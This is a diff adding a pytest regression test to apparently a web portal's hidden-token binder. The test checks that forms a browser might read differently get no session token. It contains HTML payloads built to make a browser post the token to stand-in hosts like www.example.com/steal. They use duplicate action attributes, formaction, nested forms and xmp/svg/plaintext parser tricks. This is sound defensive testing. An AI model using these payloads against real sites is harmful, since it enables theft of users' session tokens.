@@ -122,3 +122,27 @@ def test_hidden_tokens_are_bound_only_where_they_are_ours() -> None:
     assert f'action="/portal/logout"><input type="hidden" name="s" value="{token}">' in bound
     assert f'href="/portal/status?s={token}&amp;lang=en">zh' in bound
     assert f'value="{token}" form="ours"' in bound
+
+
+@pytest.mark.parametrize("form", [
+    # What a fourth attack run had Chromium post to another host (the server had bound the token).
+    '<form method="post" action="http://www.example.com/steal" action="/portal/logout">{input}</form>',
+    '<form method="post" action="/portal/logout">{input}<button formaction="http://www.example.com/x">'
+    'x</button></form>',
+    '<form action="http://www.example.com/nested"><form action="/portal/logout">{input}</form></form>',
+    '<form method="post"/action="http://www.example.com/x"/action="/portal/logout">{input}</form>',
+    # Markup a browser reads as text (or SVG) but HTMLParser as tags.
+    '<form action="http://www.example.com/x"><xmp></form><form action="/portal/logout"></xmp>{input}</form>',
+    '<form action="http://www.example.com/x"><svg></form><form action="/portal/logout"></svg>{input}</form>',
+    '<plaintext><form action="/portal/logout">{input}</form>',
+])
+def test_forms_a_browser_may_read_otherwise_get_no_token(form: str) -> None:
+    token = "T" * 48
+    context, late = hide_tokens({"s": token, "urls": {"logout": "/portal/logout"}})
+    html = form.format(input=f'<input type="hidden" name="s" value="{context["s"]}">')
+    bound = late.bind(html)
+    assert token not in bound and "cwlate" not in bound, bound
+    assert late.ambiguous
+    # The same input in a plain form of ours still gets it.
+    plain = late.bind(f'<form action="/portal/logout"><input name="s" value="{context["s"]}"></form>')
+    assert token in plain and not late.ambiguous
